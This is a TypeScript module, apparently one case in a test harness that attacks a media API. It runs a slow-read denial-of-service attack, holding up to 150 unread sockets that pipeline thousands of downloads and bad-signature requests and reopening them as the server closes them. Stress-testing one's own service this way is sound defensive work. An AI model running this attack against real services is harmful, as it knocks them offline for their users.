/** Pipelined downloads of a stored file, and of files that do not exist, by a client that never reads. */
import { setTimeout as sleep } from 'node:timers/promises'

import { head } from './client.ts'
import type { Attack } from './target.ts'

const connectionsMax = 150
const tickMs = 50
const openedPerTick = 3
/** Above the limit the API closes connections, and the attacker only replaces them. */
const reopenedPerTick = 1
const pipelined = 1_000

export const unreadMedia: Attack = async ({ mediaPath }) => {
  const found = head('GET', mediaPath, undefined)
  const missing = head('GET', mediaPath.replace('signature=', 'signature=x'), undefined)
  const downloads = Buffer.concat(Array.from({ length: pipelined }, () => found))
  const misses = Buffer.concat(Array.from({ length: pipelined }, () => missing))
  return async (client, signal) => {
    let connections = 0
    let opened = 0
    for (let tick = 0; !signal.aborted; tick += 1) {
      const limit = opened < connectionsMax ? openedPerTick : reopenedPerTick
      for (let at = 0; at < limit && connections < connectionsMax; at += 1) {
        opened += 1
        connections += 1
        const socket = client.openUnread()
        socket.on('close', () => {
          connections -= 1
        })
        // Every third connection requests missing files, whose responses are small and many.
        socket.write(opened % 3 === 0 ? misses : downloads)
      }
      await sleep(tickMs, undefined, { signal }).catch(() => undefined)
    }
  }
}
